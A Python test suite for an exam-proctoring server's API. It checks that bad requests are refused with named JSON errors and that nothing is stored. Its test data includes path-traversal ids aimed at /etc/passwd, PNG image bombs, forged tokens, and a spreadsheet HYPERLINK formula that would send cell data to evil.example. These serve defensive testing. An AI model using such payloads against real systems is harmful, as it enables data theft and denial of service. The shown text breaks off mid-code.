"""Bad input from agents, the network and attackers: every one gets a 4xx JSON error that names the problem,
nothing is stored, nothing is written outside blobs/, there is never a 5xx, and good agents are undisturbed.

Most cases run in-process through the Flask test client; what only a real socket can say (truncated and
lying bodies, slow clients, dot segments in the raw path) runs against the real server under gunicorn.
"""

from __future__ import annotations

import http.client
import io
import json
import socket
import struct
import threading
import time
import zlib
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, timedelta, timezone
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from PIL import Image

from agent.transport import HallClient
from hall_server.store import crypto, db, exams
from hall_server.store.blobs import BlobStore
from invigil import payloads
from invigil import protocol as p
from invigil.payloads import CaptureMeta, DeviceEvent, Enrolment, Heartbeat
from invigil.timeutil import to_wire, utc_now

from support import ExamSetup, LiveServer, png_bytes, provision_exam, sha256

API = p.API_PREFIX
PROTOCOL = {p.PROTOCOL_HEADER: str(p.PROTOCOL_VERSION)}
NOW = "2026-11-23T09:00:00.000Z"
TABLES = ("agent_session", "capture", "device_event", "site_event", "observation", "instruction")
FUZZ = settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


# --- What "nothing is stored" means -----------------------------------------------------------------


def store_state(data_dir: Path) -> dict[str, Any]:
    """Every agent-writable row, and every file anywhere under the test's directory but the database."""
    store = db.connect(data_dir)
    try:
        state: dict[str, Any] = {
            table: store.execute(f"SELECT * FROM {table} ORDER BY rowid").fetchall() for table in TABLES
        }
    finally:
        store.close()
    state["files"] = sorted(
        str(path.relative_to(data_dir.parent))
        for path in data_dir.parent.rglob("*")
        if path.is_file() and not path.name.startswith("invigil.db") and path.suffix != ".log"
    )
    return state


def assert_refused(status: int, content_type: str, body: bytes, expected_status: int, code: str) -> None:
    assert status == expected_status, body[:300]
    assert content_type.split(";")[0].strip() == "application/json", body[:300]
    answer = json.loads(body)
    assert list(answer) == ["error"] and sorted(answer["error"]) == ["code", "message"], answer
    assert answer["error"]["code"] == code, answer
    assert isinstance(answer["error"]["message"], str) and len(answer["error"]["message"]) >= 10, answer


def assert_response_refused(response: Any, expected_status: int, code: str) -> None:
    assert_refused(
        response.status_code, response.content_type or "", response.get_data(), expected_status, code
    )


# --- Bodies -------------------------------------------------------------------------------------------


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def declared_png(width: int, height: int) -> bytes:
    """A tiny PNG whose header declares ``width`` x ``height``: an image bomb if anyone inflated it."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + _chunk(b"IEND", b"")
    )


def jpeg_bytes(width: int = 320, height: int = 200) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(buffer, "JPEG")
    return buffer.getvalue()


PNG = png_bytes(320, 200, seed=7)
OTHER_PNG = png_bytes(320, 200, seed=8)
JPEG = jpeg_bytes()
TEXT = b"this is not an image, it is an essay about why the exam was unfair\n" * 20


def meta_header(body: bytes = PNG, width: int = 320, height: int = 200, **fields: Any) -> str:
    meta = {
        "monitor": 0,
        "agent_time": NOW,
        "sha256": sha256(body),
        "width": width,
        "height": height,
        **fields,
    }
    return json.dumps({key: value for key, value in meta.items() if value is not None})


def json_bytes(value: Any) -> bytes:
    return json.dumps(value).encode()


def device_event(**fields: Any) -> dict[str, Any]:
    return {"id": "ev-0000001", "kind": "monitors", "agent_time": NOW, "detail": {"count": 1}, **fields}


def site_event(**fields: Any) -> dict[str, Any]:
    return {
        "id": "site-000001",
        "time": NOW,
        "client_ip": "10.0.0.7",
        "host": "example.org",
        "decision": "blocked",
        "source": "proxy",
        **fields,
    }


# --- The table of bad requests ------------------------------------------------------------------------

SESSION = "<session token>"


@dataclass(frozen=True)
class Bad:
    method: str
    path: str
    status: int
    code: str
    body: bytes = b""
    content_type: str | None = None
    headers: dict[str, str] = field(default_factory=dict)
    authorization: str | None = SESSION
    protocol: str | None = str(p.PROTOCOL_VERSION)
    remote_addr: str = "127.0.0.1"

    def request_headers(self, token: str) -> dict[str, str]:
        headers = dict(self.headers)
        if self.protocol is not None:
            headers[p.PROTOCOL_HEADER] = self.protocol
        if self.authorization is not None:
            headers["Authorization"] = self.authorization.replace(SESSION, f"Bearer {token}")
        if self.content_type is not None:
            headers["Content-Type"] = self.content_type
        return headers


def beat(body: bytes, status: int = 422, code: str = "", content_type: str = "application/json") -> Bad:
    return Bad("POST", f"{API}/heartbeat", status, code, body, content_type)


def capture(
    status: int,
    code: str,
    body: bytes = PNG,
    meta: str | None = None,
    content_type: str = "image/png",
    capture_id: str = "cap-00000001",
) -> Bad:
    headers = {p.META_HEADER: meta_header(body) if meta is None else meta} if meta != "" else {}
    return Bad("PUT", f"{API}/captures/{capture_id}", status, code, body, content_type, headers)


def enrol(payload: Any, status: int, code: str) -> Bad:
    return Bad(
        "POST", f"{API}/enrol", status, code, json_bytes(payload), "application/json", authorization=None
    )


ENROLMENT = {"student_number": "s0003", "join_code": "HALLA234", "agent_id": "agent-0003", "agent_time": NOW}
TOO_MANY = {"events": [device_event(id=f"ev-{i:07d}") for i in range(p.MAX_EVENTS_PER_BATCH + 1)]}

BAD_REQUESTS = [
    # Malformed JSON
    pytest.param(beat(b"{", 400, "bad_json"), id="json-unterminated"),
    pytest.param(beat(b"", 400, "bad_json"), id="json-empty-body"),
    pytest.param(beat(b"[" * 5000, 400, "bad_json"), id="json-nested-5000-deep"),
    pytest.param(beat(b"\xff\xfe{\x00}", 400, "bad_json"), id="json-not-utf8"),
    pytest.param(beat(b"null", 422, "not_an_object"), id="json-null"),
    pytest.param(beat(b'"a string"', 422, "not_an_object"), id="json-string"),
    pytest.param(beat(b'{"agent_time": "2026-11-23T09:00:00"}', 422, "bad_time"), id="time-without-offset"),
    pytest.param(
        beat(b'{"agent_time": "0001-01-01T00:00:00+01:00"}', 422, "bad_time"), id="time-before-year-1"
    ),
    pytest.param(beat(b'{"agent_time": "9999-12-31T23:59:59-01:00"}', 422, "bad_time"), id="time-after-9999"),
    pytest.param(
        beat(json_bytes({"agent_time": NOW, "backlog": -1}), 422, "out_of_range"), id="backlog-negative"
    ),
    pytest.param(
        beat(b'{"agent_time": "%s", "backlog": NaN}' % NOW.encode(), 422, "bad_type"), id="backlog-nan"
    ),
    pytest.param(
        beat(json_bytes({"agent_time": NOW, "state": "asleep"}), 422, "bad_value"), id="state-unknown"
    ),
    pytest.param(
        beat(json_bytes({"agent_time": NOW, "root": True}), 422, "unknown_field"), id="field-unknown"
    ),
    pytest.param(
        enrol({**ENROLMENT, "student_number": "s0003\ud800"}, 422, "bad_value"), id="enrol-surrogate"
    ),
    pytest.param(enrol({**ENROLMENT, "os": "Linux\x00"}, 422, "bad_value"), id="enrol-nul"),
    pytest.param(
        enrol({k: v for k, v in ENROLMENT.items() if k != "join_code"}, 422, "missing_field"),
        id="enrol-missing-join-code",
    ),
    pytest.param(enrol({**ENROLMENT, "agent_id": "../../agent"}, 422, "bad_id"), id="enrol-agent-id-path"),
    pytest.param(enrol({**ENROLMENT, "student_number": 3}, 422, "bad_type"), id="enrol-number-not-string"),
    pytest.param(
        Bad(
            "POST",
            f"{API}/device-events",
            422,
            "missing_field",
            json_bytes({"events": []}),
            "application/json",
        ),
        id="events-empty",
    ),
    pytest.param(
        Bad("POST", f"{API}/device-events", 422, "too_many", json_bytes(TOO_MANY), "application/json"),
        id="events-too-many",
    ),
    pytest.param(
        Bad(
            "POST",
            f"{API}/device-events",
            422,
            "duplicate_id",
            json_bytes({"events": [device_event(), device_event()]}),
            "application/json",
        ),
        id="events-duplicate-id",
    ),
    pytest.param(
        Bad(
            "POST",
            f"{API}/device-events",
            422,
            "bad_value",
            json_bytes({"events": [device_event(kind="rootkit")]}),
            "application/json",
        ),
        id="events-unknown-kind",
    ),
    pytest.param(
        Bad(
            "POST",
            f"{API}/device-events",
            422,
            "too_long",
            json_bytes({"events": [device_event(detail={"x": "y" * 5000})]}),
            "application/json",
        ),
        id="events-detail-too-big",
    ),
    pytest.param(
        Bad(
            "POST",
            f"{API}/device-events",
            422,
            "bad_time",
            json_bytes({"events": [device_event(), device_event(id="ev-0000002", agent_time="soon")]}),
            "application/json",
        ),
        id="events-second-bad-nothing-stored",
    ),
    pytest.param(
        Bad(
            "PUT",
            f"{API}/unchanged/unc-0000001",
            422,
            "bad_id",
            json_bytes({"monitor": 0, "agent_time": NOW, "since_capture_id": "../../etc/passwd"}),
            "application/json",
        ),
        id="unchanged-since-path",
    ),
    # Wrong content types
    pytest.param(
        beat(json_bytes({"agent_time": NOW}), 415, "not_json", "text/plain"), id="json-as-text-plain"
    ),
    pytest.param(
        beat(b"agent_time=now", 415, "not_json", "application/x-www-form-urlencoded"), id="json-as-form"
    ),
    pytest.param(
        Bad("POST", f"{API}/heartbeat", 415, "not_json", json_bytes({"agent_time": NOW})),
        id="json-without-content-type",
    ),
    pytest.param(capture(415, "content_type_mismatch", content_type="text/plain"), id="png-as-text-plain"),
    pytest.param(capture(415, "content_type_mismatch", JPEG), id="jpeg-labelled-png"),
    pytest.param(
        capture(415, "content_type_mismatch", PNG, content_type="image/webp"), id="png-labelled-webp"
    ),
    pytest.param(capture(415, "not_an_image", TEXT), id="text-labelled-png"),
    pytest.param(capture(415, "not_an_image", b""), id="zero-length-body"),
    pytest.param(capture(422, "sha256_mismatch", b"", meta_header(PNG)), id="zero-length-body-png-meta"),
    pytest.param(capture(415, "not_an_image", b"GIF89a" + TEXT, content_type="image/gif"), id="gif"),
    # Image bombs and broken images: refused from the header, before a pixel is inflated
    pytest.param(
        capture(
            422,
            "out_of_range",
            declared_png(100_000, 100_000),
            meta_header(declared_png(100_000, 100_000), 100_000, 100_000),
        ),
        id="bomb-declared-in-meta",
    ),
    pytest.param(
        capture(
            422, "bad_image", declared_png(100_000, 100_000), meta_header(declared_png(100_000, 100_000))
        ),
        id="bomb-hidden-behind-meta",
    ),
    pytest.param(
        capture(
            422,
            "bad_image",
            declared_png(16_384, 16_384),
            meta_header(declared_png(16_384, 16_384), 16_384, 16_384),
        ),
        id="bomb-16k-square",
    ),
    pytest.param(
        capture(
            422, "bad_image", declared_png(8000, 6000), meta_header(declared_png(8000, 6000), 8000, 6000)
        ),
        id="bomb-48-megapixels",
    ),
    pytest.param(capture(422, "bad_image", PNG[:20], meta_header(PNG[:20])), id="png-truncated-header"),
    # Capture metadata
    pytest.param(capture(422, "missing_meta", meta=""), id="meta-missing"),
    pytest.param(capture(422, "bad_json", meta="{monitor: 0"), id="meta-broken-json"),
    pytest.param(capture(422, "bad_json", meta="[" * 4000), id="meta-nested-4000-deep"),
    pytest.param(capture(422, "not_an_object", meta="[]"), id="meta-array"),
    pytest.param(
        capture(422, "too_long", meta=meta_header(window_title="t" * 5000)), id="meta-header-too-long"
    ),
    pytest.param(capture(422, "sha256_mismatch", meta=meta_header(OTHER_PNG)), id="meta-wrong-sha"),
    pytest.param(
        capture(422, "bad_sha256", meta=meta_header(sha256=sha256(PNG).upper())), id="meta-sha-upper"
    ),
    pytest.param(capture(422, "missing_field", meta=meta_header(sha256=None)), id="meta-sha-missing"),
    pytest.param(
        capture(422, "dimension_mismatch", meta=meta_header(PNG, 640, 400)), id="meta-wrong-dimensions"
    ),
    pytest.param(capture(422, "out_of_range", meta=meta_header(PNG, 0, 200)), id="meta-zero-width"),
    pytest.param(capture(422, "out_of_range", meta=meta_header(monitor=p.MAX_MONITORS)), id="meta-monitor"),
    pytest.param(capture(422, "bad_type", meta=meta_header(width="320")), id="meta-width-string"),
    pytest.param(
        capture(422, "unknown_field", meta=meta_header(path="/etc/passwd")), id="meta-unknown-field"
    ),
    pytest.param(capture(422, "bad_value", meta=meta_header(trigger="whenever")), id="meta-trigger"),
    pytest.param(capture(422, "bad_time", meta=meta_header(agent_time="yesterday")), id="meta-time"),
    pytest.param(
        capture(422, "bad_value", meta=meta_header(window_title="Exam \ud83d")), id="meta-surrogate"
    ),
    pytest.param(
        capture(422, "too_long", meta=meta_header(window_title="t" * 600)), id="meta-title-too-long"
    ),
    # Tokens
    pytest.param(
        Bad(
            "POST",
            f"{API}/heartbeat",
            401,
            "missing_token",
            json_bytes({"agent_time": NOW}),
            "application/json",
            authorization=None,
        ),
        id="token-missing",
    ),
    pytest.param(
        Bad(
            "POST",
            f"{API}/heartbeat",
            401,
            "missing_token",
            json_bytes({"agent_time": NOW}),
            "application/json",
            authorization="Basic czAwMDE6SEFMTEEyMzQ=",
        ),
        id="token-basic-auth",
    ),
    pytest.param(
        Bad(
            "POST",
            f"{API}/heartbeat",
            401,
            "bad_token",
            json_bytes({"agent_time": NOW}),
            "application/json",
            authorization="Bearer forged-token-forged-token-forged-token",
        ),
        id="token-forged",
    ),
    pytest.param(
        Bad(
            "POST",
            f"{API}/heartbeat",
            401,
            "bad_token",
            json_bytes({"agent_time": NOW}),
            "application/json",
            authorization="Bearer " + "A" * 4000,
        ),
        id="token-huge",
    ),
    pytest.param(
        Bad(
            "PUT",
            f"{API}/captures/cap-00000001",
            401,
            "bad_token",
            PNG,
            "image/png",
            {p.META_HEADER: meta_header()},
            authorization=SESSION + "x",
        ),
        id="token-altered-capture",
    ),
    # Protocol version
    pytest.param(
        Bad(
            "POST",
            f"{API}/heartbeat",
            400,
            "missing_protocol",
            json_bytes({"agent_time": NOW}),
            "application/json",
            protocol=None,
        ),
        id="protocol-missing",
    ),
    pytest.param(
        Bad(
            "POST",
            f"{API}/enrol",
            400,
            "missing_protocol",
            json_bytes(ENROLMENT),
            "application/json",
            authorization=None,
            protocol=None,
        ),
        id="protocol-missing-enrol",
    ),
    pytest.param(
        Bad(
            "PUT",
            f"{API}/captures/cap-00000001",
            426,
            "protocol_version",
            PNG,
            "image/png",
            {p.META_HEADER: meta_header()},
            protocol="0",
        ),
        id="protocol-old",
    ),
    pytest.param(
        Bad(
            "POST",
            f"{API}/enrol",
            426,
            "protocol_version",
            json_bytes(ENROLMENT),
            "application/json",
            authorization=None,
            protocol="2",
        ),
        id="protocol-new",
    ),
    # Ids shaped like paths
    pytest.param(capture(422, "bad_id", capture_id=".."), id="id-dotdot"),
    pytest.param(capture(422, "bad_id", capture_id="%2e%2e"), id="id-dotdot-encoded"),
    pytest.param(
        capture(404, "not_found", capture_id="..%2F..%2F..%2Fetc%2Fpasswd"), id="id-traversal-encoded"
    ),
    pytest.param(capture(422, "bad_id", capture_id="..%5C..%5Cwindows%5Csystem32"), id="id-backslashes"),
    pytest.param(capture(422, "bad_id", capture_id="capture.png"), id="id-with-dot"),
    pytest.param(capture(422, "bad_id", capture_id=quote("captüre-ünïcødé")), id="id-unicode"),
    pytest.param(capture(422, "bad_id", capture_id="cap%000000001"), id="id-nul"),
    pytest.param(capture(422, "bad_id", capture_id="cap-1"), id="id-too-short"),
    pytest.param(capture(422, "bad_id", capture_id="c" * 65), id="id-too-long"),
    pytest.param(
        Bad("PUT", f"{API}/captures/%2e%2e/thumbnail", 422, "bad_id", PNG, "image/png"),
        id="thumbnail-id-dotdot",
    ),
    pytest.param(
        Bad(
            "PUT",
            f"{API}/unchanged/..%2F..%2Fblobs",
            404,
            "not_found",
            json_bytes({"monitor": 0, "agent_time": NOW, "since_capture_id": "cap-00000001"}),
            "application/json",
        ),
        id="unchanged-id-traversal",
    ),
    pytest.param(
        Bad(
            "PUT",
            f"{API}/unchanged//abcdefgh",
            404,
            "not_found",
            json_bytes({"monitor": 0, "agent_time": NOW, "since_capture_id": "cap-00000001"}),
            "application/json",
        ),
        id="unchanged-id-leading-slash-no-redirect",
    ),
    pytest.param(
        Bad(
            "PUT",
            f"{API}/unchanged/unc.0000001",
            422,
            "bad_id",
            json_bytes({"monitor": 0, "agent_time": NOW, "since_capture_id": "cap-00000001"}),
            "application/json",
        ),
        id="unchanged-id-dot",
    ),
    # Site events without the service token, from loopback (the proxy's own address) or elsewhere
    pytest.param(
        Bad(
            "POST",
            f"{API}/site-events",
            403,
            "not_a_service",
            json_bytes({"events": [site_event()]}),
            "application/json",
            authorization=None,
        ),
        id="site-loopback-no-token",
    ),
    pytest.param(
        Bad(
            "POST",
            f"{API}/site-events",
            403,
            "not_a_service",
            json_bytes({"events": [site_event()]}),
            "application/json",
            authorization=None,
            remote_addr="10.1.2.3",
        ),
        id="site-remote-no-token",
    ),
    pytest.param(
        Bad(
            "POST",
            f"{API}/site-events",
            403,
            "not_a_service",
            json_bytes({"events": [site_event()]}),
            "application/json",
            authorization="Bearer not-the-service-token",
            remote_addr="10.1.2.3",
        ),
        id="site-remote-wrong-token",
    ),
    pytest.param(
        Bad(
            "POST",
            f"{API}/site-events",
            403,
            "not_a_service",
            json_bytes({"events": [site_event()]}),
            "application/json",
            remote_addr="10.1.2.3",
        ),
        id="site-remote-agent-token",
    ),
    # Oversized bodies
    pytest.param(beat(b'{"agent_time": "' + b"9" * 300_000 + b'"}', 413, "too_large"), id="json-oversized"),
    pytest.param(
        capture(413, "too_large", b"\x89PNG\r\n\x1a\n" + bytes(8 * 1024 * 1024)), id="capture-oversized"
    ),
    pytest.param(
        Bad(
            "PUT",
            f"{API}/captures/cap-00000001/thumbnail",
            413,
            "too_large",
            b"\x89PNG\r\n\x1a\n" + bytes(300_000),
            "image/png",
        ),
        id="thumbnail-oversized",
    ),
    # Unknown routes and methods still answer JSON
    pytest.param(Bad("GET", f"{API}/captures/cap-00000001", 405, "method_not_allowed"), id="get-capture"),
    pytest.param(Bad("GET", f"{API}/../../etc/passwd", 404, "not_found"), id="route-traversal"),
]


@pytest.fixture
def token(client, exam) -> str:
    answer = client.post(
        f"{API}/enrol", headers=PROTOCOL, json={**ENROLMENT, "student_number": exam.students[0]}
    )
    assert answer.status_code == 201
    return answer.get_json()["session_token"]


def with_length(body: bytes) -> dict[str, str]:
    """Content-Length as every real client sends it; the test client leaves it out for an empty body."""
    return {"CONTENT_LENGTH": str(len(body))}


def send(client: Any, bad: Bad, token: str) -> Any:
    return client.open(
        bad.path,
        method=bad.method,
        data=bad.body,
        headers=bad.request_headers(token),
        environ_base={"REMOTE_ADDR": bad.remote_addr},
        environ_overrides=with_length(bad.body) if bad.method in ("PUT", "POST") else None,
    )


@pytest.mark.parametrize("bad", BAD_REQUESTS)
def test_bad_request_is_refused_by_name_and_stores_nothing(client, exam, token, bad):
    before = store_state(exam.data_dir)
    assert_response_refused(send(client, bad, token), bad.status, bad.code)
    assert store_state(exam.data_dir) == before


# Site events with the service token whose content is bad; the host must be a host name or IP address.
BAD_SITE_EVENTS = [
    pytest.param(site_event(client_ip="not-an-ip"), "client_ip", id="client-ip"),
    pytest.param(site_event(host="exam\udfff.org"), "lone surrogate", id="surrogate"),
    pytest.param(site_event(host='=HYPERLINK("http://evil.example/?"&A1,"open")'), "host", id="host-formula"),
    pytest.param(site_event(host="exam.example.org/path"), "host", id="host-path"),
    pytest.param(site_event(host="exam example.org"), "host", id="host-space"),
    pytest.param(site_event(host="-exam.example.org"), "host", id="host-leading-hyphen"),
    pytest.param(site_event(host="exam..org"), "host", id="host-empty-label"),
    pytest.param(site_event(host=""), "host", id="host-empty"),
    pytest.param(site_event(host="ex\u0430m.example.org"), "host", id="host-not-punycode"),
    pytest.param(site_event(host="10.0.0.300"), "host", id="host-bad-ipv4"),
    pytest.param(site_event(host="a" * 64 + ".org"), "host", id="host-long-label"),
]


def post_as_service(client: Any, exam: ExamSetup, body: Any, remote_addr: str = "127.0.0.1") -> Any:
    """As the proxy and sentinel do: with the hall's service token (from loopback by default)."""
    service_token = (exam.data_dir / "service.token").read_text().strip()
    return client.post(
        f"{API}/site-events",
        json=body,
        headers={**PROTOCOL, "Authorization": f"Bearer {service_token}"},
        environ_base={"REMOTE_ADDR": remote_addr},
    )


@pytest.mark.parametrize(("event", "named"), BAD_SITE_EVENTS)
def test_bad_site_event_from_the_proxy_is_refused_by_name_and_stores_nothing(client, exam, event, named):
    before = store_state(exam.data_dir)
    response = post_as_service(client, exam, {"events": [site_event(id="site-000000"), event]})
    assert_response_refused(response, 422, "bad_value")
    assert named in response.get_json()["error"]["message"]
    assert response.get_json()["error"]["message"].startswith("events[1]:")
    assert store_state(exam.data_dir) == before


@pytest.mark.parametrize(
    ("host", "stored"),
    [
        ("Exam.Example.ORG", "exam.example.org"),
        ("xn--exm-7cd.example.nl", "xn--exm-7cd.example.nl"),
        ("_dmarc.cdn-1.example.org", "_dmarc.cdn-1.example.org"),
        ("10.0.0.7", "10.0.0.7"),
        ("2001:DB8::1", "2001:db8::1"),
        ("invalid", "invalid"),  # what the proxy sends for a name it could not read
    ],
)
def test_site_event_hosts_that_are_host_names_or_addresses_are_stored(client, exam, host, stored):
    response = post_as_service(client, exam, {"events": [site_event(host=host)]})
    assert response.get_json() == {"stored": 1, "duplicates": 0}
    store = db.connect(exam.data_dir)
    assert store.execute("SELECT unseal(exam_id, host) FROM site_event").fetchone()[0] == stored
    store.close()


def test_old_agent_is_told_both_protocol_versions(client, token):
    response = client.post(
        f"{API}/heartbeat",
        json={"agent_time": NOW},
        headers={p.PROTOCOL_HEADER: "0", "Authorization": f"Bearer {token}"},
    )
    assert_response_refused(response, 426, "protocol_version")
    message = response.get_json()["error"]["message"]
    assert "'0'" in message and f"speaks {p.PROTOCOL_VERSION}" in message


def test_the_same_requests_done_right_are_accepted(client, exam, token):
    """The control for the table: the good version of each request is stored, so a refusal above is
    about the bad part and not about the set-up."""
    auth = {**PROTOCOL, "Authorization": f"Bearer {token}"}
    assert client.post(f"{API}/heartbeat", json={"agent_time": NOW}, headers=auth).status_code == 200
    response = client.put(
        f"{API}/captures/cap-00000001",
        data=PNG,
        headers={**auth, "Content-Type": "image/png", p.META_HEADER: meta_header()},
    )
    assert response.status_code == 201
    response = client.put(
        f"{API}/captures/cap-00000002",
        data=JPEG,
        headers={**auth, "Content-Type": "image/jpeg", p.META_HEADER: meta_header(JPEG)},
    )
    assert response.status_code == 201
    assert (
        client.post(f"{API}/device-events", json={"events": [device_event()]}, headers=auth).status_code
        == 200
    )
    service_token = (exam.data_dir / "service.token").read_text().strip()
    response = client.post(
        f"{API}/site-events",
        json={"events": [site_event()]},
        headers={**PROTOCOL, "Authorization": f"Bearer {service_token}"},
        environ_base={"REMOTE_ADDR": "10.1.2.3"},
    )
    assert response.get_json() == {"stored": 1, "duplicates": 0}
    store = db.connect(exam.data_dir)
    assert store.execute("SELECT count(*) FROM capture").fetchone()[0] == 2
    store.close()


# --- Sessions: expired, another student's, replayed ids ---------------------------------------------


def upload(client: Any, token: str, capture_id: str, body: bytes = PNG) -> Any:
    return client.put(
        f"{API}/captures/{capture_id}",
        data=body,
        headers={
            **PROTOCOL,
            "Authorization": f"Bearer {token}",
            "Content-Type": "image/png",
            p.META_HEADER: meta_header(body),
        },
    )


def test_expired_session_token_is_refused_and_stores_nothing(client, exam, token):
    store = db.connect(exam.data_dir)
    with db.write_transaction(store):
        store.execute("UPDATE agent_session SET expires_at = ?", [to_wire(utc_now() - timedelta(seconds=1))])
    store.close()
    before = store_state(exam.data_dir)
    assert_response_refused(upload(client, token, "cap-00000001"), 401, "token_expired")
    response = client.post(
        f"{API}/heartbeat", json={"agent_time": NOW}, headers={**PROTOCOL, "Authorization": f"Bearer {token}"}
    )
    assert_response_refused(response, 401, "token_expired")
    assert store_state(exam.data_dir) == before


def test_replayed_capture_id_with_other_bytes_is_refused_and_keeps_the_first(client, exam, token):
    assert upload(client, token, "cap-00000001", PNG).status_code == 201
    assert upload(client, token, "cap-00000001", PNG).get_json()["duplicate"] is True  # a resend: fine
    before = store_state(exam.data_dir)
    assert_response_refused(upload(client, token, "cap-00000001", OTHER_PNG), 409, "id_reused")
    assert store_state(exam.data_dir) == before
    auth = {**PROTOCOL, "Authorization": f"Bearer {token}"}
    unchanged = {"monitor": 0, "agent_time": NOW, "since_capture_id": "cap-00000001"}
    assert client.put(f"{API}/unchanged/unc-0000001", json=unchanged, headers=auth).status_code == 201
    before = store_state(exam.data_dir)
    response = client.put(
        f"{API}/unchanged/unc-0000001", json={**unchanged, "since_capture_id": "cap-00000009"}, headers=auth
    )
    assert_response_refused(response, 409, "id_reused")
    assert_response_refused(upload(client, token, "unc-0000001", PNG), 409, "id_reused")
    assert store_state(exam.data_dir) == before


def test_another_session_never_reads_or_overwrites_a_capture(client, exam, token):
    """Student B replaying student A's capture id gets B's own record; A's stays as it was."""
    assert upload(client, token, "cap-00000001", PNG).status_code == 201
    answer = client.post(
        f"{API}/enrol",
        headers=PROTOCOL,
        json={**ENROLMENT, "student_number": exam.students[1], "agent_id": "agent-bbbb"},
    )
    other = answer.get_json()["session_token"]

    before = store_state(exam.data_dir)
    response = client.put(
        f"{API}/captures/cap-00000001/thumbnail",
        data=OTHER_PNG,
        headers={**PROTOCOL, "Authorization": f"Bearer {other}", "Content-Type": "image/png"},
    )
    assert_response_refused(response, 404, "unknown_capture")  # A's capture does not exist for B
    assert store_state(exam.data_dir) == before

    assert (
        upload(client, other, "cap-00000001", OTHER_PNG).status_code == 201
    )  # stored under B, not "duplicate"
    store = db.connect(exam.data_dir)
    rows = store.execute(
        "SELECT r.student_number, c.sha256 FROM capture c JOIN agent_session s ON s.id = "
        "c.session_id JOIN roster r ON r.id = s.roster_id ORDER BY r.student_number"
    ).fetchall()
    assert rows == [(exam.students[0], sha256(PNG)), (exam.students[1], sha256(OTHER_PNG))]
    key = exams.exam_key(store, crypto.load_or_create_master_key(exam.data_dir), exam.exam_id)
    assert BlobStore(exam.data_dir).get(exam.exam_id, key, sha256(PNG)) == PNG
    store.close()


@pytest.mark.parametrize(
    ("body", "content_type", "status", "code"),
    [
        pytest.param(TEXT, "image/png", 415, "not_an_image", id="text"),
        pytest.param(JPEG, "image/png", 415, "content_type_mismatch", id="jpeg-labelled-png"),
        pytest.param(declared_png(100_000, 100_000), "image/png", 422, "bad_image", id="bomb"),
        pytest.param(b"", "image/png", 415, "not_an_image", id="empty"),
    ],
)
def test_bad_thumbnail_of_a_stored_capture_is_refused(client, exam, token, body, content_type, status, code):
    assert upload(client, token, "cap-00000001").status_code == 201
    before = store_state(exam.data_dir)
    response = client.put(
        f"{API}/captures/cap-00000001/thumbnail",
        data=body,
        headers={**PROTOCOL, "Authorization": f"Bearer {token}", "Content-Type": content_type},
        environ_overrides=with_length(body),
    )
    assert_response_refused(response, status, code)
    assert store_state(exam.data_dir) == before


# --- Enrolment outside the exam ------------------------------------------------------------------------


def add_exam(data_dir: Path, hall_id: int, join_code: str, starts_in: timedelta, duration: timedelta) -> None:
    store = db.connect(data_dir)
    start = utc_now() + starts_in
    exam_id = exams.create_exam(
        store,
        crypto.load_or_create_master_key(data_dir),
        hall_id=hall_id,
        title=f"Exam {join_code}",
        starts_at=start,
        ends_at=start + duration,
        join_code=join_code,
    )
    exams.add_roster(store, exam_id, [exams.RosterEntry("s0001", "Student s0001")])
    store.close()


@pytest.mark.parametrize(
    ("join_code", "starts_in", "status", "code"),
    [
        ("LATER234", timedelta(days=2), 403, "outside_exam_window"),
        ("OVER2345", timedelta(hours=-6), 403, "outside_exam_window"),
        ("NOSUCH23", timedelta(hours=-1), 403, "bad_join_code"),
    ],
)
def test_enrolment_outside_the_exam_window_is_refused(client, exam, join_code, starts_in, status, code):
    if join_code != "NOSUCH23":
        add_exam(exam.data_dir, exam.hall_id, join_code, starts_in, timedelta(hours=2))
    before = store_state(exam.data_dir)
    response = client.post(
        f"{API}/enrol",
        headers=PROTOCOL,
        json={**ENROLMENT, "student_number": "s0001", "join_code": join_code},
    )
    assert_response_refused(response, status, code)
    assert store_state(exam.data_dir) == before


# --- Property: arbitrary JSON and headers never make a 5xx, and a 4xx never stores -----------------------

json_text = st.text(st.characters(exclude_categories=()), max_size=30)
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | json_text,
    lambda children: st.lists(children, max_size=4) | st.dictionaries(json_text, children, max_size=4),
    max_leaves=12,
)
offsets = st.integers(-1439, 1439).map(lambda minutes: timezone(timedelta(minutes=minutes)))
wire_times = st.one_of(
    st.datetimes(timezones=st.just(UTC)).map(to_wire),
    st.datetimes(timezones=offsets).map(lambda moment: moment.isoformat()),
    st.datetimes().map(lambda moment: moment.isoformat()),  # no offset
    json_text,
    json_values,
)
ids = st.one_of(st.from_regex(p.ID_RE, fullmatch=True), json_text)


def maybe_extra(strategy: st.SearchStrategy[dict[str, Any]]) -> st.SearchStrategy[Any]:
    """Mostly well-formed objects with wrong values, sometimes an extra key, sometimes any JSON at all."""
    return st.one_of(
        strategy,
        st.tuples(strategy, json_text, json_values).map(lambda t: {**t[0], t[1]: t[2]}),
        json_values,
    )


heartbeats = maybe_extra(
    st.fixed_dictionaries(
        {"agent_time": wire_times},
        optional={
            "backlog": st.integers(-5, 10**8) | json_values,
            "state": st.sampled_from(payloads.HEARTBEAT_STATES) | json_values,
        },
    )
)
enrolments = maybe_extra(
    st.fixed_dictionaries(
        {
            "student_number": st.sampled_from(["s0001", "s0002", " s0003 ", "x9999"]) | json_text,
            "join_code": st.sampled_from(["HALLA234", "halla-234", "HALL A234", "WRONG234"]) | json_text,
            "agent_id": ids,
            "agent_time": wire_times,
        },
        optional={"agent_version": json_text | json_values, "os": json_text | json_values},
    )
)
device_events = maybe_extra(
    st.fixed_dictionaries(
        {
            "events": st.lists(
                maybe_extra(
                    st.fixed_dictionaries(
                        {
                            "id": ids,
                            "kind": st.sampled_from(p.DEVICE_EVENT_KINDS) | json_text,
